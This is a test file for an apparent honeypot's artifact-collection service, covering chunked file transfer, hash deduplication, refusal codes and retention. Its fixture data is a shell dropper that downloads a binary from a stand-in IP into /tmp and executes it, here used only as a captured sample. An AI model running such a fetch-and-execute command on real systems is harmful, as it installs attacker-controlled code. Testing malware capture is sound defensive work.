/**
 * The file transfer on the node channel, as a node speaks it (docs/protocol.md#file-transfer):
 * offers answered with Core's offset, chunks only at that offset, duplicates answered "complete"
 * at once, refusals with a code (too large, not offered, wrong hash), and retention deleting
 * artifacts not seen within retention_days.
 */
import { expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { readdirSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { getJson, registerNode, startTestCore, tempDir } from "../helpers";
import { keptDatabase } from "../helpers/kept-db";
import { storedBytes } from "./stored-bytes";

const sha = (b: Uint8Array) => createHash("sha256").update(b).digest("hex");
const BYTES = Buffer.from("#!/bin/sh\ncd /tmp; wget http://203.0.113.5/x86; chmod +x x86; ./x86\n");
const offer = (sighting_id: string, extra: Record<string, unknown> = {}) => ({
  sha256: sha(BYTES),
  size: BYTES.length,
  kind: "artifact",
  sighting_id,
  meta: { source: "cowrie.session.file_download", session: "a1b2c3d4e5f6", url: "http://203.0.113.5/x.sh", filename: "x.sh" },
  ...extra,
});

test("offers, chunks at Core's offset, deduplication by hash, refusals with a code", async () => {
  using dir = tempDir();
  await using kept = await keptDatabase(dir.path);
  await using core = await startTestCore({ ...kept.config, artifact_max_bytes: 4096 });
  using node = await registerNode(core);
  const hash = sha(BYTES);

  node.send("FileChunk", { sha256: hash, offset: 0, data: BYTES.toString("base64") });
  expect(await node.nextKind("FileStatus")).toEqual({ sha256: hash, offset: 0, complete: false, error: { code: "not_offered", message: expect.stringContaining("send FileOffer first") } });

  node.send("FileOffer", offer("s1"));
  expect(await node.nextKind("FileStatus")).toEqual({ sha256: hash, offset: 0, complete: false });
  node.send("FileChunk", { sha256: hash, offset: 0, data: BYTES.subarray(0, 10).toString("base64") });
  expect(await node.nextKind("FileStatus")).toEqual({ sha256: hash, offset: 10, complete: false });
  // A chunk at another offset is not taken: Core says where to go on.
  node.send("FileChunk", { sha256: hash, offset: 30, data: BYTES.subarray(30).toString("base64") });
  expect(await node.nextKind("FileStatus")).toEqual({ sha256: hash, offset: 10, complete: false });
  // A reconnect's offer resumes at the partial file's length.
  node.send("FileOffer", offer("s1"));
  expect(await node.nextKind("FileStatus")).toEqual({ sha256: hash, offset: 10, complete: false });
  node.send("FileChunk", { sha256: hash, offset: 10, data: BYTES.subarray(10).toString("base64") });
  expect(await node.nextKind("FileStatus")).toEqual({ sha256: hash, offset: BYTES.length, complete: true });
  expect(await storedBytes({ pgUrl: kept.pgUrl, dir: dir.path }, hash)).toEqual(BYTES);

  // Core has it: another sighting is recorded and nothing is sent again.
  node.send("FileOffer", offer("s2", { meta: { source: "cowrie.session.file_download", session: "ffffffffffff", url: "http://203.0.113.6/x.sh" } }));
  expect(await node.nextKind("FileStatus")).toEqual({ sha256: hash, offset: BYTES.length, complete: true });
  const a = (await getJson(`${core.api}/api/v1/artifacts/${hash}`)).body;
  expect(a).toMatchObject({ sha256: hash, size: BYTES.length, mime: "text/x-shellscript", stored: true, sessions: ["a1b2c3d4e5f6", "ffffffffffff"] });
  expect(a.urls.sort()).toEqual(["http://203.0.113.5/x.sh", "http://203.0.113.6/x.sh"]);

  const big = "0".repeat(64);
  node.send("FileOffer", { sha256: big, size: 5000, kind: "artifact", sighting_id: "s3" });
  expect(await node.nextKind("FileStatus")).toEqual({ sha256: big, offset: 0, complete: false, error: { code: "too_large", message: "artifact of 5000 bytes exceeds the limit of 4096 bytes" } });
  node.send("FileOffer", { sha256: big, size: 3, kind: "recording", sighting_id: "s4" });
  expect((await node.nextKind("FileStatus")).error.code).toBe("unknown_kind");
  // Bytes that do not hash to the offer are dropped.
  node.send("FileOffer", { sha256: big, size: 3, kind: "artifact", sighting_id: "s5" });
  expect(await node.nextKind("FileStatus")).toMatchObject({ offset: 0, complete: false });
  node.send("FileChunk", { sha256: big, offset: 0, data: Buffer.from("abc").toString("base64") });
  expect((await node.nextKind("FileStatus")).error).toEqual({ code: "hash_mismatch", message: `the received bytes hash to ${sha(Buffer.from("abc"))}` });
  expect((await getJson(`${core.api}/api/v1/artifacts/${big}`)).body).toMatchObject({ stored: false });
  // Malformed messages get the channel's Error, and the connection carries on.
  node.send("FileChunk", { sha256: "not-a-hash", offset: 0, data: "" });
  expect((await node.nextKind("Error")).code).toBe("invalid_payload");
  expect((await getJson(`${core.api}/api/v1/artifacts/nothex`)).body.error.code).toBe("bad_request");
  expect((await getJson(`${core.api}/api/v1/artifacts/${"1".repeat(64)}/download`)).status).toBe(404);
});

test("retention deletes artifacts not seen within retention_days, rows and bytes, and abandoned partial transfers", async () => {
  using dir = tempDir();
  await using kept = await keptDatabase(dir.path);
  const db = kept.config;
  const hash = sha(BYTES);
  {
    await using core = await startTestCore(db);
    using node = await registerNode(core);
    const old = new Date(Date.now() - 3 * 24 * 3600 * 1000).toISOString();
    node.send("FileOffer", offer("old", { meta: { source: "cowrie.session.file_download", seen_at: old } }));
    await node.nextKind("FileStatus");
    node.send("FileChunk", { sha256: hash, offset: 0, data: BYTES.toString("base64") });
    expect((await node.nextKind("FileStatus")).complete).toBe(true);
    expect((await getJson(`${core.api}/api/v1/artifacts`)).body.artifacts.map((x: any) => x.last_seen)).toEqual([new Date(old).toISOString()]);
  }
  {
    await using core = await startTestCore({ ...db, retention_days: 7 });
    expect((await getJson(`${core.api}/api/v1/artifacts/${hash}`)).status).toBe(200);
  }
  // A transfer abandoned three days ago, and one under way.
  const partial = join(dir.path, "artifacts", "partial");
  const abandoned = join(partial, `${"a".repeat(64)}-1`);
  const recent = join(partial, `${"b".repeat(64)}-1`);
  writeFileSync(abandoned, "half");
  writeFileSync(recent, "half");
  const threeDaysAgo = new Date(Date.now() - 3 * 24 * 3600 * 1000);
  utimesSync(abandoned, threeDaysAgo, threeDaysAgo);
  await using core = await startTestCore({ ...db, retention_days: 2 });
  expect(readdirSync(partial)).toEqual([`${"b".repeat(64)}-1`]);
  expect((await getJson(`${core.api}/api/v1/artifacts/${hash}`)).status).toBe(404);
  expect((await getJson(`${core.api}/api/v1/artifacts`)).body).toEqual({ artifacts: [], next_cursor: null });
  expect(await storedBytes({ pgUrl: kept.pgUrl, dir: dir.path }, hash)).toBeNull();
});
